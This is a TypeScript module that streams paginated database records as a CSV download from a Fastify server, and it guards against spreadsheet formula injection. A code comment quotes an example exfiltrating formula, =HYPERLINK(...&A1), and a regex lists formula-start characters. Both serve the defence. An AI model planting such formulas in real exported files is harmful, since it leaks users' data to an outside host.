import { Readable } from 'node:stream'
import { stringify } from 'csv-stringify/sync'
import type { FastifyReply } from 'fastify'
import type { Position } from './send-page.ts'
import { z } from 'zod'

/** The answer of an operation that sends a CSV file, for the document. */
export const CSV_FILE = {
  description: 'One line for each record, under a header row.',
  content: { 'text/csv': { schema: z.unknown().meta({ override: { type: 'string' } }) } },
}

/** A number is ours and stays one; text may be anybody's. */
export type Cell = string | number | boolean | null

// A sheet takes a cell that begins so for a formula, and runs it: =HYPERLINK("http://…"&A1) sends the row away. The wide forms are turned into the narrow ones.
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/

/** A text that no spreadsheet takes for a formula: an apostrophe before what begins like one. */
export function stopFormula(text: string): string {
  return FORMULA.test(text) ? `'${text}` : text
}

function printRows(rows: readonly (readonly Cell[])[]): string {
  const cast = { string: stopFormula, boolean: (value: boolean) => String(value) }
  return stringify([...rows], { record_delimiter: 'windows', cast })
}

type Row<Column extends string> = Readonly<Record<Column, Cell>>

/** Of an export: enough that the way to the database does not count, few enough that a page of them is small. */
export const EXPORT_PAGE = 500

/**
 * The pages of a list from its beginning, each read only when the one before was taken; `read` gives at most `EXPORT_PAGE` rows, in a transaction of its own,
 * so that a slow line holds no transaction open.
 */
export async function* readPages<Item extends Position>(
  read: (after: Position | undefined) => Promise<Item[]>,
): AsyncGenerator<Item[], void> {
  for (let after: Position | undefined; ; ) {
    const page = await read(after)
    yield page
    after = page.at(-1)
    if (after === undefined || page.length < EXPORT_PAGE) return
  }
}

async function* printPages<Column extends string>(
  columns: readonly Column[],
  pages: AsyncIterable<readonly Row<Column>[]>,
): AsyncGenerator<string, void> {
  let head: (readonly Cell[])[] = [columns]
  for await (const page of pages) {
    yield printRows([...head, ...page.map((row) => columns.map((column) => row[column]))])
    head = []
  }
}

async function* startingWith(
  first: IteratorResult<string, void>,
  rest: AsyncGenerator<string, void>,
): AsyncGenerator<string, void> {
  if (first.done === true) return
  yield first.value
  yield* rest
}

/**
 * Sends a list as CSV (RFC 4180: a header row, CRLF, UTF-8) to be saved under `fileName`, whatever its length in the memory of a page or two. The first page is read
 * before anything is sent, so that a refusal is a problem and no broken file; what fails later breaks the connection. A reader that goes away ends the reading.
 */
export async function sendCsv<Column extends string>(
  reply: FastifyReply,
  list: {
    readonly fileName: string
    readonly columns: readonly Column[]
    readonly pages: AsyncIterable<readonly Row<Column>[]>
  },
): Promise<FastifyReply> {
  const printed = printPages(list.columns, list.pages)
  const first = await printed.next()
  reply.header('content-disposition', `attachment; filename="${list.fileName}"`).type('text/csv; charset=utf-8')
  if (reply.request.method === 'HEAD') {
    await printed.return()
    return reply.send('')
  }
  // One chunk is a whole page: with the default of sixteen, pages would be read long before anybody wants them.
  return reply.send(Readable.from(startingWith(first, printed), { highWaterMark: 1 }))
}
